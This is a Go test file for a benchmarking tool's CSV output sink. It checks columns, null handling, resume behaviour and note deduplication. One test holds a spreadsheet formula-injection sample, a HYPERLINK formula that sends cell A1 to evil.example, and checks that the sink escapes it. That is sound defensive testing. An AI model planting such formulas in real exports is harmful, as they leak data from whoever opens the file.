package csvsink_test

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/benchrun/benchrun/internal/golden"
	"github.com/benchrun/benchrun/internal/results"
	"github.com/benchrun/benchrun/internal/results/resultstest"
	"github.com/benchrun/benchrun/pipeline"
	"github.com/benchrun/benchrun/pipeline/pipelinetest"
	"github.com/benchrun/benchrun/sinks/csvsink"
)

// runOutput streams the fixture's cells through a CSV output the way a run
// does and returns stdout and the run directory.
func runOutput(t *testing.T, columns []string, prefix string) (string, string) {
	t.Helper()
	dir := t.TempDir()
	var stdout bytes.Buffer
	o, err := csvsink.New(&stdout, columns)
	if err != nil {
		t.Fatal(err)
	}
	o.Prefix = prefix
	if err := o.Start(pipelinetest.LiveEnv(&pipeline.RunInfo{ID: resultstest.RunID, Dir: dir})); err != nil {
		t.Fatal(err)
	}
	for i, p := range resultstest.Points() {
		if err := o.Cell(p.Cell, results.AsRequests(p.Requests)); err != nil {
			t.Fatal(err)
		}
		// Rows appear as cells finish, not at the end.
		if lines := strings.Count(stdout.String(), "\n"); lines != i+2 {
			t.Fatalf("after %d cells stdout has %d lines, want %d", i+1, lines, i+2)
		}
	}
	if err := o.Stop(nil); err != nil {
		t.Fatal(err)
	}
	return stdout.String(), dir
}

func TestStdoutDefaultColumnsGolden(t *testing.T) {
	prefix := filepath.Join(t.TempDir(), "sub", "bench")
	stdout, dir := runOutput(t, nil, prefix)
	golden.Check(t, "stdout-default.csv", []byte(stdout))
	// --output PREFIX streams the same table to PREFIX.csv.
	file, err := os.ReadFile(prefix + ".csv")
	if err != nil {
		t.Fatal(err)
	}
	if string(file) != stdout {
		t.Errorf("PREFIX.csv differs from stdout:\n%s\nvs\n%s", file, stdout)
	}
	// cells.csv in the run directory has every column.
	// (Not a golden file: the measuring engineer adds metric columns often.)
	recs := readCellsCSV(t, dir)
	if got, want := strings.Join(recs[0], ","), strings.Join(csvsink.Columns(), ","); got != want {
		t.Errorf("cells.csv header = %s, want every column %s", got, want)
	}
	if len(recs) != 1+len(resultstest.Points()) {
		t.Errorf("cells.csv has %d records, want a header and %d rows", len(recs), len(resultstest.Points()))
	}
	if recs[1][0] != resultstest.RunID || recs[1][3] != "sweep/64:32/c1" {
		t.Errorf("cells.csv first row starts %q, want the run id and cell id", recs[1][:4])
	}
}

func TestChosenColumnsGolden(t *testing.T) {
	stdout, _ := runOutput(t, []string{"cell_id", " concurrency", "output_tok_s", "ttft_p99_ms", "metadata", "started_at"}, "")
	golden.Check(t, "stdout-columns.csv", []byte(stdout))
}

func TestUnknownColumn(t *testing.T) {
	for _, tc := range []struct{ bad, hint string }{
		{"ttft_p95", `; did you mean "ttft_p95_ms"?`},     // the unit suffix forgotten
		{"TTFT_P99_MS", `; did you mean "ttft_p99_ms"?`},  // shouted
		{"ouput_tok_s", `; did you mean "output_tok_s"?`}, // a typo
		{"throughput", ""}, // nothing close: just the list
	} {
		_, err := csvsink.New(nil, []string{"isl", tc.bad})
		if err == nil || !strings.Contains(err.Error(), `unknown column "`+tc.bad+`"`) || !strings.Contains(err.Error(), "ttft_p99_ms") {
			t.Fatalf("err = %v; want it to name the bad column and list the valid ones", err)
		}
		if tc.hint != "" && !strings.Contains(err.Error(), tc.hint) {
			t.Errorf("--columns %s: %v; want the hint %s", tc.bad, err, tc.hint)
		}
		if tc.hint == "" && strings.Contains(err.Error(), "did you mean") {
			t.Errorf("--columns %s: %v; want no guess", tc.bad, err)
		}
	}
}

// A resumed run appends to cells.csv instead of starting it over.
func TestCellsCSVAppendsOnResume(t *testing.T) {
	dir := t.TempDir()
	pts := resultstest.Points()
	for _, p := range pts[:2] {
		o, err := csvsink.New(nil, nil)
		if err != nil {
			t.Fatal(err)
		}
		if err := o.Start(pipelinetest.LiveEnv(&pipeline.RunInfo{Dir: dir})); err != nil {
			t.Fatal(err)
		}
		if err := o.Cell(p.Cell, nil); err != nil {
			t.Fatal(err)
		}
		if err := o.Stop(nil); err != nil {
			t.Fatal(err)
		}
	}
	b, _ := os.ReadFile(filepath.Join(dir, "cells.csv"))
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 {
		t.Fatalf("cells.csv has %d records, want a header and 2 rows:\n%s", len(recs), b)
	}
}

// A null (not measured) metric is an empty field in every CSV target; a
// measured zero is "0". The fixture's failed cell: every request failed,
// so its latencies and speedup are null and its req/s a measured 0.
func TestNullIsAnEmptyField(t *testing.T) {
	dir := t.TempDir()
	var stdout bytes.Buffer
	o, err := csvsink.New(&stdout, []string{"cell_id", "ttft_ms", "itl_p99_ms", "speedup_vs_c1", "req_s", "requests", "failed", "status"})
	if err != nil {
		t.Fatal(err)
	}
	if err := o.Start(pipelinetest.LiveEnv(&pipeline.RunInfo{ID: resultstest.RunID, Dir: dir})); err != nil {
		t.Fatal(err)
	}
	bad := resultstest.Unmeasured()
	if err := o.Cell(bad.Cell, results.AsRequests(bad.Requests)); err != nil {
		t.Fatal(err)
	}
	if err := o.Stop(nil); err != nil {
		t.Fatal(err)
	}
	if got, want := strings.Split(strings.TrimSpace(stdout.String()), "\n")[1], "sweep/64:32/c8,,,,0,8,8,error"; got != want {
		t.Errorf("stdout row = %q, want %q", got, want)
	}
	b, err := os.ReadFile(filepath.Join(dir, "cells.csv"))
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("cells.csv: %d records, %v", len(recs), err)
	}
	row := map[string]string{}
	for i, h := range recs[0] {
		row[h] = recs[1][i]
	}
	for _, col := range resultstest.NullableColumns() {
		measured := map[string]bool{"req_s": true, "output_tok_s": true, "decode_tok_s": true, "total_tok_s": true, "goodput": true,
			"goodput_ratio": true, "sent_req_s": true}[col] || strings.HasPrefix(col, "send_lag")
		switch {
		case measured && row[col] == "":
			t.Errorf("cells.csv %s is empty; the fixture measured it", col)
		case !measured && row[col] != "":
			t.Errorf("cells.csv %s = %q, want an empty field (null: not measured)", col, row[col])
		}
	}
	if row["req_s"] != "0" || row["requests"] != "8" || row["completed"] != "0" {
		t.Errorf("cells.csv req_s %q requests %q completed %q; want the measured 0 and the counts", row["req_s"], row["requests"], row["completed"])
	}
}

// terminal is a stdout that says it is a terminal.
type terminal struct{ bytes.Buffer }

func (*terminal) Terminal() bool { return true }

// TestTerminalTableLeavesOutNotes: on a terminal, beside the progress
// view, the default table leaves out notes (hundreds of characters a row,
// which wrap over the screen) and says so once; cells.csv keeps them, and
// chosen columns are kept as chosen.
func TestTerminalTableLeavesOutNotes(t *testing.T) {
	for _, chosen := range [][]string{nil, {"isl", "notes"}} {
		dir := t.TempDir()
		var out terminal
		var progress bytes.Buffer
		o, err := csvsink.New(&out, chosen)
		if err != nil {
			t.Fatal(err)
		}
		env := pipelinetest.LiveEnv(&pipeline.RunInfo{ID: resultstest.RunID, Dir: dir})
		env.Progress = &progress
		if err := o.Start(env); err != nil {
			t.Fatal(err)
		}
		header, _, _ := strings.Cut(out.String(), "\n")
		hasNotes := strings.Contains(header, "notes")
		if chosen == nil && (hasNotes || !strings.Contains(progress.String(), "stdout is a terminal: the table leaves out notes")) {
			t.Errorf("default columns on a terminal: header %q, progress %q", header, progress.String())
		}
		if chosen != nil && (!hasNotes || progress.Len() != 0) {
			t.Errorf("chosen columns on a terminal: header %q, progress %q", header, progress.String())
		}
		o.Stop(nil)
		b, _ := os.ReadFile(filepath.Join(dir, "cells.csv"))
		if !strings.Contains(string(b), "notes") {
			t.Error("cells.csv lost its notes column")
		}
	}
}

// Text from outside that a spreadsheet would run as a formula is written
// with a leading apostrophe; numbers keep their sign; metadata is a JSON
// object, whatever its values hold; read back by a CSV reader, each field
// is one field.
func TestFieldsAreNeverFormulas(t *testing.T) {
	var stdout bytes.Buffer
	o, err := csvsink.New(&stdout, []string{"cell_id", "engine_version", "notes", "metadata", "ttft_ms"})
	if err != nil {
		t.Fatal(err)
	}
	if err := o.Start(pipelinetest.LiveEnv(&pipeline.RunInfo{ID: resultstest.RunID, Dir: t.TempDir()})); err != nil {
		t.Fatal(err)
	}
	c := resultstest.Points()[0].Cell
	c.EngineVersion = `=HYPERLINK("http://evil.example/?"&A1,"update")`
	c.Notes = "@SUM(1+1)"
	c.Metadata = map[string]string{"note": "a=b;c=d", "-x": "+1"}
	c.TTFTMs = results.Some(-1.5)
	if err := o.Cell(c, nil); err != nil {
		t.Fatal(err)
	}
	if err := o.Stop(nil); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&stdout).ReadAll()
	if err != nil || len(recs) != 2 {
		t.Fatalf("%d records, %v", len(recs), err)
	}
	want := []string{c.CellID, `'=HYPERLINK("http://evil.example/?"&A1,"update")`, "'@SUM(1+1)", `{"-x":"+1","note":"a=b;c=d"}`, "-1.5"}
	for i, w := range want {
		if recs[1][i] != w {
			t.Errorf("%s = %q, want %q", recs[0][i], recs[1][i], w)
		}
	}
}

// A closed loop's row has no rate, an open loop's no concurrency: empty
// fields, not 0 (Parquet keeps the 0).
func TestLoadColumnsNotApplicableAreEmpty(t *testing.T) {
	idx, err := csvsink.ColumnIndex([]string{"concurrency", "rate"})
	if err != nil {
		t.Fatal(err)
	}
	closed := results.Cell{Concurrency: 4}
	open := results.Cell{Rate: 20}
	if got := csvsink.Record(closed, idx); got[0] != "4" || got[1] != "" {
		t.Errorf("closed loop: %q, want [4, empty]", got)
	}
	if got := csvsink.Record(open, idx); got[0] != "" || got[1] != "20" {
		t.Errorf("open loop: %q, want [empty, 20]", got)
	}
}

// A run whose rows are a program's named tests (llama-bench at two
// depths shares isl, osl and concurrency) shows bench_test after
// concurrency; a run that also has a rate ladder shows both.
func TestNamedTestsColumn(t *testing.T) {
	for _, tc := range []struct {
		rate, named bool
		want        string
	}{
		{false, false, "isl,osl,concurrency,first_call_ms,"},
		{false, true, "isl,osl,concurrency,bench_test,first_call_ms,"},
		{true, true, "isl,osl,concurrency,rate,bench_test,first_call_ms,"},
	} {
		var stdout bytes.Buffer
		o, err := csvsink.New(&stdout, nil)
		if err != nil {
			t.Fatal(err)
		}
		env := pipelinetest.LiveEnv(&pipeline.RunInfo{ID: resultstest.RunID, Dir: t.TempDir()})
		env.Stdout, env.RateLadder, env.NamedTests = &stdout, tc.rate, tc.named
		if err := o.Start(env); err != nil {
			t.Fatal(err)
		}
		if err := o.Stop(nil); err != nil {
			t.Fatal(err)
		}
		if !strings.HasPrefix(stdout.String(), tc.want) {
			t.Errorf("rate %v named %v: header %q, want it to start %q", tc.rate, tc.named, strings.SplitN(stdout.String(), "\n", 2)[0], tc.want)
		}
	}
}

// A stage's run-level notes (how prompts are drawn, NVML absent) are said
// on its first row of the table people read, not on every row (they ran
// to ~900 characters a row); a later row shows what is new to it, another
// stage says its own, and cells.csv keeps every row's notes whole.
func TestStdoutSaysEachNoteOnce(t *testing.T) {
	var stdout bytes.Buffer
	o, err := csvsink.New(&stdout, []string{"cell_id", "notes"})
	if err != nil {
		t.Fatal(err)
	}
	dir := t.TempDir()
	if err := o.Start(pipelinetest.LiveEnv(&pipeline.RunInfo{ID: resultstest.RunID, Dir: dir})); err != nil {
		t.Fatal(err)
	}
	rows := []results.Cell{
		{Stage: "a", CellID: "a/1", Notes: "prompts=cold; GPU telemetry not measured: NVML is not available"},
		{Stage: "a", CellID: "a/2", Notes: "prompts=cold; GPU telemetry not measured: NVML is not available"},
		{Stage: "a", CellID: "a/3", Notes: "prompts=cold; client-bound: send_lag p99 9 ms; GPU telemetry not measured: NVML is not available"},
		{Stage: "b", CellID: "b/1", Notes: "prompts=cold"},
		// Two cells measured again for the same reason: each row says so
		// (a reader tells a second measurement from the first by it).
		{Stage: "b", CellID: "b/1", Notes: results.MeasuredAgainNote(2, "inconclusive") + "; prompts=cold"},
		{Stage: "b", CellID: "b/2", Notes: results.MeasuredAgainNote(2, "inconclusive") + "; prompts=cold"},
	}
	for _, c := range rows {
		if err := o.Cell(c, nil); err != nil {
			t.Fatal(err)
		}
	}
	if err := o.Stop(nil); err != nil {
		t.Fatal(err)
	}
	want := "cell_id,notes\n" +
		"a/1,prompts=cold; GPU telemetry not measured: NVML is not available\n" +
		"a/2,\n" +
		"a/3,client-bound: send_lag p99 9 ms\n" +
		"b/1,prompts=cold\n" +
		"b/1,\"measurement 2 of the cell, the one its checks judge: measured once more (inconclusive)\"\n" +
		"b/2,\"measurement 2 of the cell, the one its checks judge: measured once more (inconclusive)\"\n"
	if stdout.String() != want {
		t.Errorf("stdout:\n%s\nwant:\n%s", stdout.String(), want)
	}
	recs := readCellsCSV(t, dir)
	notes := slices.Index(recs[0], "notes")
	for i, c := range rows {
		if got := recs[i+1][notes]; got != c.Notes {
			t.Errorf("cells.csv row %d notes %q, want %q whole", i+1, got, c.Notes)
		}
	}
}

// readCellsCSV reads the run directory's cells.csv as records.
func readCellsCSV(t *testing.T, dir string) [][]string {
	t.Helper()
	all, err := os.ReadFile(filepath.Join(dir, "cells.csv"))
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(all)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return recs
}
